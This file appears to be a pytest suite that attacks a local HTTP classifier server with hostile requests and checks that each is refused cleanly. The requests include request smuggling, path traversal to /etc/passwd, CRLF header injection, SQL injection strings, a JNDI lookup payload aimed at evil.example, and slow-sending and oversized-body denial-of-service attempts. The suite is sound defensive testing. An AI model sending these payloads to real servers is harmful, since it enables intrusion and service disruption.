"""
What an attacker sends, and what it meets: one row an attack.

A real server on a real socket takes them all, and answers its next caller as if nothing had been.
"""

import json
import re
import socket
import time
from collections.abc import Iterator
from contextlib import closing, suppress

import pytest

from sortyard.models.classifier import Classifier
from sortyard.serving.http.limits import HttpLimits
from sortyard.serving.http.protocol import Patience
from tests.contracts.http_fronts import Front, listening, open_front
from tests.contracts.loops import PATIENCE, Loop
from tests.contracts.tiny_release import train_tiny

LIMITS = HttpLimits(bytes=100_000, body_seconds=0.5)
SHORT = Patience(
    head_seconds=0.5, unread_body_seconds=0.5, unread_answer_seconds=0.5, head_bytes=32_768
)
HOST = b"Host: localhost\r\n"
CLOSED = 0  # no answer: the connection just ends


@pytest.fixture(scope="module")
def trained() -> Classifier:
    return train_tiny().named("r1")


@pytest.fixture(scope="module")
def front(trained: Classifier) -> Iterator[Front]:
    loop = Loop()
    with open_front(loop, trained, http=LIMITS) as front:
        yield front
    loop.close()


@pytest.fixture(scope="module")
def port(front: Front) -> Iterator[int]:
    with listening(front, patience=SHORT) as port:
        yield port


@pytest.fixture(autouse=True)
def _answers_afterwards(port: int) -> Iterator[None]:
    yield
    with _connected(port) as attacker:
        attacker.sendall(_get(b"/readyz"))
        assert _status(_rest(attacker)) == 200


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)


def _get(path: bytes, *headers: bytes) -> bytes:
    lines = b"".join(one + b"\r\n" for one in headers)
    return b"GET " + path + b" HTTP/1.1\r\n" + HOST + lines + b"Connection: close\r\n\r\n"


def _post(body: bytes, *headers: bytes, path: bytes = b"/v1/classify") -> bytes:
    named = {one.split(b":")[0].lower() for one in headers}
    lines = [b"Content-Type: application/json", *headers, b"Connection: close"]
    if not named & {b"content-length", b"transfer-encoding"}:
        lines.append(b"Content-Length: %d" % len(body))
    head = b"POST " + path + b" HTTP/1.1\r\n" + HOST + b"\r\n".join(lines)
    return head + b"\r\n\r\n" + body


def _rest(attacker: socket.socket) -> bytes:
    """Read until the server closes the connection."""
    answer = b""
    try:
        while piece := attacker.recv(65_536):
            answer += piece
    except ConnectionResetError:
        pass
    return answer


def _status(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.1 (\d+) ", answer)
    return int(found[1]) if found else CLOSED


def _meet(port: int, attack: bytes) -> bytes:
    with _connected(port) as attacker:
        with suppress(BrokenPipeError, ConnectionResetError):  # it may have heard enough
            attacker.sendall(attack)
        return _rest(attacker)


HEADS = {
    "letters that are no request": (b"\x16\x03\x01\x02\x00 hello\r\n\r\n", 400),
    "a request of another age": (b"GET /healthz\r\n\r\n", 400),
    "the first words of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "a header without a colon": (_get(b"/healthz", b"nonsense"), 400),
    "a line that is folded": (_get(b"/healthz", b"X-A: b\r\n c"), 400),
    "a null in a header": (_get(b"/healthz", b"X-A: b\x00c"), 400),
    "two lengths": (_post(b"{}", b"Content-Length: 2", b"Content-Length: 3"), 400),
    "a length and chunks, to smuggle": (
        _post(b"0\r\n\r\nGET /", b"Content-Length: 5", b"Transfer-Encoding: chunked"),
        400,
    ),
    "a negative length": (_post(b"", b"Content-Length: -5"), 400),
    "a length beyond all numbers": (_post(b"", b"Content-Length: " + b"9" * 30), 400),
    "a chunk that is no chunk": (_post(b"zz\r\n", b"Transfer-Encoding: chunked"), 400),
    "a body that is far too long": (_post(b"", b"Content-Length: 9999999999"), 413),
    "one that asks first": (
        _post(b"", b"Content-Length: 9999999999", b"Expect: 100-continue"),
        413,
    ),
    "a thousand headers": (_get(b"/healthz", *(b"X-%d: a" % one for one in range(1_000))), 431),
    "a header that is too long": (_get(b"/healthz", b"X-A: " + b"a" * 20_000), 431),
    "a header without end": (b"GET /healthz HTTP/1.1\r\nX-A: " + b"a" * 3_000_000, 431),
    "headers without end": (b"GET /healthz HTTP/1.1\r\n" + b"X-A: b\r\n" * 300_000, 431),
    "an address that is too long": (_get(b"/" + b"a" * 10_000), 414),
    "an address without end": (b"GET /" + b"a" * 3_000_000, 431),
    "a packed body": (_post(b"\x1f\x8b", b"Content-Encoding: gzip"), 415),
    "a form, as a page of another site may send": (
        _post(b"text=a", b"Content-Type: application/x-www-form-urlencoded"),
        415,
    ),
    "a way up": (_get(b"/v1/releases/../../etc/passwd"), 404),
    "a way up, veiled": (_get(b"/v1/releases/%2e%2e%2f%2e%2e%2fetc%2fpasswd"), 404),
    "a way up, twice veiled": (_get(b"/v1/releases/%252e%252e%252fetc"), 422),
    "a way from the root": (_get(b"//etc/passwd"), 404),
    "a null in the address": (_get(b"/v1/releases/r1%00"), 422),
    "an end of line in the address": (_get(b"/v1/x%0d%0aSet-Cookie:%20a=b"), 404),
    "a quote for the database": (_get(b"/v1/releases/r1';DROP%20TABLE%20records"), 422),
    "another method": (_get(b"/v1/classify").replace(b"GET", b"TRACE", 1), 405),
    "a tunnel": (b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + b"\r\n", 400),
    "another protocol": (_get(b"/healthz", b"Connection: Upgrade", b"Upgrade: websocket"), 200),
    "a host that was made to mean this machine": (
        _post(b"{}").replace(b"localhost", b"evil.example"),
        401,
    ),
    "two hosts": (_post(b"{}", b"Host: evil.example"), 401),
    "the page of another site": (_post(b"{}", b"Origin: https://evil.example"), 401),
    "a proxy's word for who asks": (_post(b"{}", b"X-Forwarded-For: 127.0.0.1"), 401),
}


@pytest.mark.parametrize(("attack", "status"), HEADS.values(), ids=HEADS)
def test_a_request_that_means_harm_is_refused(port: int, attack: bytes, status: int) -> None:
    answer = _meet(port, attack)

    assert _status(answer) == status, answer[:300]
    assert b"Set-Cookie" not in answer


BODIES = {
    "brackets without end": (b"[" * 90_000, 400),
    "objects without end": (b'{"a":' * 15_000, 400),
    "no UTF-8": (b'{"text": "\xc3\x28"}', 400),
    "half of a pair of letters": (rb'{"text": "\ud800"}', 400),
    "a number without end": (b'{"text": "a", "metadata": {"a": ' + b"9" * 90_000 + b"}}", 400),
    "a template": (b'{"text": "{{7*7}} ${jndi:ldap://evil.example/a}"}', 200),
    "a quote for the database": (b"""{"id": "'; DROP TABLE records; --", "text": "a"}""", 200),
    "a name of Python's own": (b'{"text": "a", "__class__": {"__init__": 1}}', 422),
    "ten thousand messages": (b'{"messages": [' + b"1," * 9_999 + b"1]}", 413),
    "a name to guess at": (
        b'{"text": "a", "options": {"dimensions": ["' + b"a" * 90_000 + b'"]}}',
        422,
    ),
    "letters that turn the line": (b'{"text": "a\\u202e\\u0000b"}', 200),
}


@pytest.mark.parametrize(("body", "status"), BODIES.values(), ids=BODIES)
def test_a_body_that_means_harm_does_none(port: int, body: bytes, status: int) -> None:
    began = time.monotonic()
    answer = _meet(port, _post(body))

    assert _status(answer) in {status, 422 if status == 400 else status}, answer[:300]
    assert time.monotonic() - began < 5


def test_a_body_without_end_is_cut_off(port: int) -> None:
    with _connected(port) as attacker:
        attacker.sendall(_post(b"", b"Transfer-Encoding: chunked"))
        chunk = b"10000\r\n" + b"x" * 65_536 + b"\r\n"
        sent = 0
        try:
            for _ in range(2_000):
                attacker.sendall(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = _rest(attacker)

    assert _status(answer) in {413, CLOSED}
    assert sent < 2_000 * len(chunk)


SLOW = {
    "who says nothing": (b"", CLOSED),
    "who never ends a line": (b"GET /healthz HT", 408),
    "who never ends the headers": (b"GET /healthz HTTP/1.1\r\nHost: a\r\n", 408),
    "who never ends the body": (_post(b'{"te', b"Content-Length: 50"), 408),
    "who sends empty lines": (b"\r\n", 408),
}


@pytest.mark.parametrize(("said", "status"), SLOW.values(), ids=SLOW)
def test_who_stops_half_way_is_not_waited_for(port: int, said: bytes, status: int) -> None:
    began = time.monotonic()
    answer = _meet(port, said)

    assert _status(answer) == status, answer
    assert time.monotonic() - began < 10


def test_who_sends_a_letter_now_and_then_is_not_waited_for(port: int) -> None:
    began = time.monotonic()
    with _connected(port) as attacker:
        attacker.settimeout(0.1)
        attacker.sendall(b"GET /healthz HTTP/1.1\r\nX-A: ")
        answer = b""
        while not answer and time.monotonic() - began < 10:
            try:
                attacker.sendall(b"a")
                answer = attacker.recv(65_536)
            except TimeoutError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break

    assert _status(answer) in {408, CLOSED}
    assert time.monotonic() - began < 5


def test_who_does_not_read_is_let_go(port: int) -> None:
    request = b"GET /openapi.json HTTP/1.1\r\n" + HOST + b"\r\n"
    with closing(socket.socket()) as attacker:
        attacker.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        attacker.settimeout(PATIENCE)
        attacker.connect(("127.0.0.1", port))
        with pytest.raises((BrokenPipeError, ConnectionResetError)):
            _ask_for_ever(attacker, request)


def _ask_for_ever(attacker: socket.socket, request: bytes) -> None:
    while True:
        attacker.sendall(request * 100)
        time.sleep(0.01)


def test_many_requests_at_once_on_one_connection_are_answered_in_order(port: int) -> None:
    requests = [
        _post(b'{"id": "m%d", "text": "printer"}' % place).replace(b"Connection: close\r\n", b"")
        for place in range(50)
    ]
    with _connected(port) as client:
        client.sendall(b"".join(requests) + _get(b"/healthz"))
        answer = _rest(client)

    assert re.findall(rb'"id":"(m\d+)"', answer) == [b"m%d" % place for place in range(50)]


def test_idle_connections_keep_nobody_out(port: int) -> None:
    idle = [_connected(port) for _ in range(200)]
    try:
        assert _status(_meet(port, _get(b"/healthz"))) == 200
    finally:
        for one in idle:
            one.close()


def test_no_refusal_says_what_the_server_is_made_of(port: int) -> None:
    answers = [_meet(port, attack) for attack, _ in HEADS.values()]
    words = re.compile(rb"traceback|uvicorn|starlette|fastapi|python|pydantic|/src/", re.IGNORECASE)

    assert [found for found in answers if words.search(found)] == []


def test_every_refusal_is_a_problem_document(port: int) -> None:
    refusals = [_meet(port, attack) for attack, status in HEADS.values() if status >= 400]

    for refusal in refusals:
        head, _, body = refusal.partition(b"\r\n\r\n")
        assert b"application/problem+json" in head, head
        assert b"x-content-type-options: nosniff" in head
        assert json.loads(body)["status"] == _status(refusal)
